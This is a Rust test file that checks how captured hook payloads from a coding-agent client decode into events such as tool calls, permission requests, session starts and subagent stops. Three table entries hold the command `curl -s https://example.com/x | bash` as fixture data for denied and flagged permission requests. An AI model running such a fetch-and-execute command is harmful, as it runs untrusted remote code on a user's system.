//! Every captured payload and the event that it becomes.

use substrate_core::{Delivery, Detail, Event, EventKind, ToolCall, WishKind};

use super::{CLIENT, all_samples, decode, decode_with};

/// File, actor (`id:kind`), and what its detail says. The kind of event is the file's name up to the first `-`.
#[rustfmt::skip]
const TABLE: &[(&str, &str, &str)] = &[
    ("ConfigChange-user_settings",          "main",                              "because user_settings"),
    ("CwdChanged",                          "main",                              "path /home/dev/app/sub"),
    ("DirectoryAdded-slash_command",        "main",                              "path /home/dev/extra (slash_command)"),
    ("Elicitation",                         "main",                              "because mini"),
    ("ElicitationResult",                   "main",                              "because accept"),
    ("FileChanged",                         "main",                              "path /home/dev/app/watched.txt (change)"),
    ("InstructionsLoaded-compact",          "main",                              "path /home/dev/app/CLAUDE.md (compact)"),
    ("InstructionsLoaded-nested_traversal", "main",                              "path /home/dev/app/sub/CLAUDE.md (nested_traversal)"),
    ("InstructionsLoaded-session_start",    "main",                              "path /home/dev/app/CLAUDE.md (session_start)"),
    ("MessageDisplay",                      "main",                              "plain"),
    ("Notification-agent_needs_input",      "main",                              "notification agent_needs_input"),
    ("Notification-elicitation_response",   "main",                              "notification elicitation_response"),
    ("Notification-idle_prompt",            "main",                              "notification idle_prompt"),
    ("Notification-permission_prompt",      "main",                              "notification permission_prompt"),
    ("PermissionDenied-flagged",            "main",                              "failed Bash/Shell `curl -s https://example.com/x | bash`: Pipes a download into a shell"),
    ("PermissionDenied",                    "main",                              "failed Bash/Shell `curl -s http://127.0.0.1:1/x | bash`: Classifier unavailable"),
    ("PermissionRequest-AskUserQuestion",   "main",                              "before AskUserQuestion/Other"),
    ("PermissionRequest-Bash",              "main",                              "before Bash/Shell `touch /home/dev/app/made-by-bash`"),
    ("PermissionRequest-Read",              "main",                              "before Read/Read /home/dev/app/a.txt"),
    ("PermissionRequest-Write",             "main",                              "before Write/Edit /home/dev/app/w.txt"),
    ("PermissionRequest-auto-mode",         "main",                              "before Bash/Shell `curl -s https://example.com/x | bash`"),
    ("PermissionRequest-mcp",               "main",                              "before mcp__mini__ask/Other"),
    ("PostCompact-auto",                    "main",                              "because auto"),
    ("PostCompact-manual",                  "main",                              "because manual"),
    ("PostModelSwitch-command",             "main",                              "model claude-sonnet-4-6 to claude-haiku-4-5"),
    ("PostToolBatch-main",                  "main",                              "batch of 1"),
    ("PostToolBatch-subagent",              "af33cc3df4b1261b3:general-purpose", "batch of 1"),
    ("PostToolUse-Agent",                   "main",                              "after Agent/Agent 719 ms"),
    ("PostToolUse-AskUserQuestion",         "main",                              "after AskUserQuestion/Other 2 ms"),
    ("PostToolUse-Bash",                    "main",                              "after Bash/Shell `echo out; echo err >&2` 53 ms"),
    ("PostToolUse-Edit",                    "main",                              "after Edit/Edit /home/dev/app/new.txt 10 ms"),
    ("PostToolUse-Read",                    "main",                              "after Read/Read /home/dev/app/a.txt 9 ms"),
    ("PostToolUse-TaskCreate",              "main",                              "after TaskCreate/Todo 127 ms"),
    ("PostToolUse-TaskList",                "main",                              "after TaskList/Todo 1 ms"),
    ("PostToolUse-TaskUpdate",              "main",                              "after TaskUpdate/Todo 8 ms"),
    ("PostToolUse-TodoWrite",               "main",                              "after TodoWrite/Todo 1 ms"),
    ("PostToolUse-Write",                   "main",                              "after Write/Edit /home/dev/app/new.txt 9 ms"),
    ("PostToolUse-mcp",                     "main",                              "after mcp__mini__ask/Other 3370 ms"),
    ("PostToolUse-subagent",                "af33cc3df4b1261b3:general-purpose", "after Read/Read /home/dev/app/a.txt 9 ms"),
    ("PostToolUseFailure-Bash",             "main",                              "failed Bash/Shell `echo bad >&2; exit 3`: Exit code 3"),
    ("PostToolUseFailure-Read",             "main",                              "failed Read/Read /home/dev/app/nope.txt: File does not exist. Note: your current working directory is /home/dev/app."),
    ("PreCompact-auto",                     "main",                              "because auto"),
    ("PreCompact-manual",                   "main",                              "because manual"),
    ("PreModelSwitch-command",              "main",                              "model claude-sonnet-4-6 to claude-haiku-4-5"),
    ("PreToolUse-Agent",                    "main",                              "before Agent/Agent"),
    ("PreToolUse-AskUserQuestion",          "main",                              "before AskUserQuestion/Other"),
    ("PreToolUse-Bash",                     "main",                              "before Bash/Shell `echo out; echo err >&2`"),
    ("PreToolUse-Edit",                     "main",                              "before Edit/Edit /home/dev/app/new.txt"),
    ("PreToolUse-Read",                     "main",                              "before Read/Read /home/dev/app/a.txt"),
    ("PreToolUse-TaskCreate",               "main",                              "before TaskCreate/Todo"),
    ("PreToolUse-TaskList",                 "main",                              "before TaskList/Todo"),
    ("PreToolUse-TaskUpdate",               "main",                              "before TaskUpdate/Todo"),
    ("PreToolUse-TodoWrite",                "main",                              "before TodoWrite/Todo"),
    ("PreToolUse-Write",                    "main",                              "before Write/Edit /home/dev/app/new.txt"),
    ("PreToolUse-mcp",                      "main",                              "before mcp__mini__ask/Other"),
    ("PreToolUse-subagent",                 "af33cc3df4b1261b3:general-purpose", "before Read/Read /home/dev/app/a.txt"),
    ("SessionEnd-clear",                    "main",                              "because clear"),
    ("SessionEnd-other",                    "main",                              "because other"),
    ("SessionEnd-prompt_input_exit",        "main",                              "because prompt_input_exit"),
    ("SessionStart-agent-session",          "main:general-purpose",              "start Startup"),
    ("SessionStart-clear",                  "main",                              "start Clear"),
    ("SessionStart-compact",                "main",                              "start Compact claude-haiku-4-5"),
    ("SessionStart-fork",                   "main",                              "start Fork"),
    ("SessionStart-resume",                 "main",                              "start Resume"),
    ("SessionStart-startup",                "main",                              "start Startup"),
    ("Setup-init",                          "main",                              "because init"),
    ("Setup-maintenance",                   "main",                              "because maintenance"),
    ("Stop-stop_hook_active-false",         "main",                              "stop first, 0 tasks"),
    ("Stop-stop_hook_active-true",          "main",                              "stop again, 0 tasks"),
    ("Stop-with-background-task",           "main",                              "stop first, 1 tasks"),
    ("StopFailure-authentication_failed",   "main",                              "stop failure authentication_failed"),
    ("StopFailure-max_output_tokens",       "main",                              "stop failure max_output_tokens"),
    ("StopFailure-server_error",            "main",                              "stop failure server_error"),
    ("SubagentStart",                       "af33cc3df4b1261b3:general-purpose", "plain"),
    ("SubagentStop-compaction-fork",        "aabbb6d1a9c366222:",                "stop first, 0 tasks"),
    ("SubagentStop-stop_hook_active-false", "af33cc3df4b1261b3:general-purpose", "stop first, 0 tasks"),
    ("SubagentStop-stop_hook_active-true",  "a48d658a87c83acd8:general-purpose", "stop again, 0 tasks"),
    ("TaskCompleted-teammate",              "aalice-2d8f3d34804b6daf:alice",     "task 1 mate task of alice"),
    ("TaskCompleted",                       "main",                              "task 1 Write the parser"),
    ("TaskCreated-teammate",                "aalice-2d8f3d34804b6daf:alice",     "task 1 mate task of alice"),
    ("TaskCreated",                         "main",                              "task 1 Write the parser"),
    ("TeammateIdle",                        "aalice-2d8f3d34804b6daf:alice",     "teammate alice of session-e27438e2"),
    ("UserPromptExpansion",                 "main",                              "command greet"),
    ("UserPromptSubmit-task-notification",  "main",                              "prompt by the client"),
    ("UserPromptSubmit",                    "main",                              "prompt by a person"),
    ("WorktreeCreate",                      "main",                              "path agent-ac25540790dcf6e2e"),
    ("WorktreeRemove",                      "main",                              "path /home/dev/wt/feat2"),
];

#[test]
fn every_sample_becomes_its_event() {
    let samples = all_samples();
    let files: Vec<_> = samples.iter().map(|(file, _)| file.trim_end_matches(".json")).collect();
    let listed: Vec<_> = TABLE.iter().map(|(file, ..)| *file).collect();
    assert_eq!(files, listed, "the table lists every file");
    for ((_, bytes), (file, actor, detail)) in samples.iter().zip(TABLE) {
        let event = decode(bytes).unwrap();
        assert_eq!(event.name, file.split('-').next().unwrap(), "{file}");
        assert_eq!(event.kind.name(), event.name, "{file}");
        assert_eq!(who(&event), *actor, "{file}");
        assert_eq!(what(&event.detail), *detail, "{file}");
    }
}

#[test]
fn no_field_of_a_sample_is_new_and_a_new_one_is_counted() {
    for (file, bytes) in all_samples() {
        assert_eq!(decode(&bytes).unwrap().n_unknown_fields, 0, "{file}");
    }
    let event = decode(br#"{"session_id":"a","brand_new":1,"other":{}}"#).unwrap();
    assert_eq!(event.n_unknown_fields, 2);
}

#[test]
fn every_kind_of_event_has_a_sample() {
    let seen: Vec<_> = all_samples().iter().map(|(_, bytes)| decode(bytes).unwrap().kind).collect();
    for kind in EventKind::ALL {
        assert!(seen.contains(kind), "{kind:?}");
    }
}

/// The fields that most events share, compared with what a plain reading of the JSON finds.
#[test]
fn the_common_fields_of_every_sample_are_kept() {
    for (file, bytes) in all_samples() {
        let json: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
        let event = decode(&bytes).unwrap();
        assert_eq!(event.session.as_ref().map(|id| id.as_str()), json["session_id"].as_str());
        assert_eq!(Some(event.cwd.as_str()), json["cwd"].as_str(), "{file}");
        assert_eq!(event.transcript.as_deref(), json["transcript_path"].as_str(), "{file}");
        assert_eq!(event.prompt_id.as_deref(), json["prompt_id"].as_str(), "{file}");
        assert_eq!(event.permission_mode.as_deref(), json["permission_mode"].as_str(), "{file}");
        assert_eq!(event.n_bytes, bytes.len(), "{file}");
        if let Some(call) = event.tool() {
            let input: serde_json::Value = serde_json::from_str(&call.input).unwrap();
            assert_eq!(input, json["tool_input"], "{file}");
            assert_eq!(call.use_id.as_deref(), json["tool_use_id"].as_str(), "{file}");
        }
        if let Detail::ToolAfter { response, .. } = &event.detail {
            let response: serde_json::Value = serde_json::from_str(response).unwrap();
            assert_eq!(response, json["tool_response"], "{file}");
        }
        if let Detail::Stop { last_message, transcript, .. } = &event.detail {
            assert_eq!(last_message.as_deref(), json["last_assistant_message"].as_str(), "{file}");
            assert_eq!(transcript.as_deref(), json["agent_transcript_path"].as_str(), "{file}");
        }
    }
}

/// The environment that the client gave its hooks, as captured.
#[test]
fn the_captured_environments_are_understood() {
    let captured: serde_json::Value =
        serde_json::from_str(include_str!("../samples/_spawn_environment.json")).unwrap();
    for (name, spawn) in captured.as_object().unwrap() {
        let env: Vec<_> = spawn["env"]
            .as_object()
            .unwrap()
            .iter()
            .map(|(name, value)| (name.as_str(), value.as_str().unwrap()))
            .collect();
        let event = decode_with(name, b"", &env).unwrap();
        assert_eq!(event.kind.name(), name);
        let said = |name: &str| spawn["env"][name].as_str();
        assert_eq!(event.session.as_ref().map(|id| id.as_str()), said("CLAUDE_CODE_SESSION_ID"));
        assert_eq!(event.project_dir.as_deref(), said("CLAUDE_PROJECT_DIR"));
        assert_eq!(event.env_file.as_deref(), said("CLAUDE_ENV_FILE"));
        assert_eq!(event.client_pid.map(|pid| pid.to_string()).as_deref(), said("CLAUDE_PID"));
        let attended = said("CLAUDE_CODE_SESSION_ATTENDED").map(|word| word == "1");
        assert_eq!(event.attended, attended, "{name}");
        let claimed = (CLIENT.delivers)(event.kind, WishKind::Export) == Delivery::Delivered;
        assert_eq!(event.env_file.is_some(), claimed, "{name}: there is a file where we export");
    }
}

/// The status line's input is no event, but no reason to fail either.
#[test]
fn the_status_line_input_is_an_unknown_event() {
    let event = decode(include_bytes!("../samples/_statusLine.json")).unwrap();
    assert_eq!(event.kind, EventKind::Unknown);
    assert!(event.session.is_some());
}

fn who(event: &Event) -> String {
    let kind = event.actor.kind().map(|kind| format!(":{kind}"));
    format!("{}{}", event.actor.key(), kind.unwrap_or_default())
}

fn tool(call: &ToolCall) -> String {
    let files = call.files.iter().map(|file| format!(" {file}"));
    let command = call.command.iter().map(|command| format!(" `{command}`"));
    format!("{}/{:?}{}", call.name, call.class, files.chain(command).collect::<String>())
}

fn what(detail: &Detail) -> String {
    let extra = |text: &Option<String>, before: &str, after: &str| {
        text.as_ref().map(|text| format!("{before}{text}{after}")).unwrap_or_default()
    };
    match detail {
        Detail::Plain => "plain".to_owned(),
        Detail::SessionStart { source, model } => {
            format!("start {source:?}{}", extra(model, " ", ""))
        }
        Detail::Because { word } => format!("because {word}"),
        Detail::Prompt { from_person: true, .. } => "prompt by a person".to_owned(),
        Detail::Prompt { from_person: false, .. } => "prompt by the client".to_owned(),
        Detail::Expansion { command, .. } => format!("command {command}"),
        Detail::ToolBefore { call } => format!("before {}", tool(call)),
        Detail::ToolAfter { call, duration_ms, .. } => {
            format!("after {} {} ms", tool(call), duration_ms.unwrap())
        }
        Detail::ToolFailed { call, error, .. } => {
            format!("failed {}: {}", tool(call), error.lines().next().unwrap_or_default())
        }
        Detail::ToolBatch { n_calls } => format!("batch of {n_calls}"),
        Detail::Stop { again, n_background_tasks, .. } => {
            format!("stop {}, {n_background_tasks} tasks", if *again { "again" } else { "first" })
        }
        Detail::StopFailure { error, .. } => format!("stop failure {error}"),
        Detail::Notification { kind, .. } => format!("notification {kind}"),
        Detail::Task { id, subject, teammate, .. } => {
            format!("task {id} {subject}{}", extra(teammate, " of ", ""))
        }
        Detail::Teammate { name, team } => format!("teammate {name}{}", extra(team, " of ", "")),
        Detail::ModelSwitch { from, to } => {
            format!("model {} to {}", extra(from, "", ""), extra(to, "", ""))
        }
        Detail::Path { path, word } => format!("path {path}{}", extra(word, " (", ")")),
        Detail::Malformed { error, .. } => format!("malformed {error}"),
        Detail::Waiter { .. } | Detail::Activity { .. } => "no payload".to_owned(),
    }
}
